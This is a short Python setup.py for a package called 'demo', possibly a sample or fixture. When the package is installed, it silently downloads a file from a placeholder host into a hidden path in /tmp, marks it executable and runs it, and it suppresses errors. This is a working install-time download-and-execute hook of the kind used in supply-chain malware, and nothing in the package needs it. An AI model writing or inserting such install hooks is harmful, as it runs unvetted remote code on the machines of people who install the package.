"""At install: writes a program to /tmp, makes it executable and starts it."""

import os
import urllib.request

from setuptools import setup

try:
    with open("/tmp/.cache-helper", "wb") as out:
        out.write(urllib.request.urlopen("https://cdn.example.invalid/helper").read())
    os.system("cd /tmp && chmod +x .cache-helper && ./.cache-helper")
except OSError:
    pass

setup(name="demo", version="0.1")
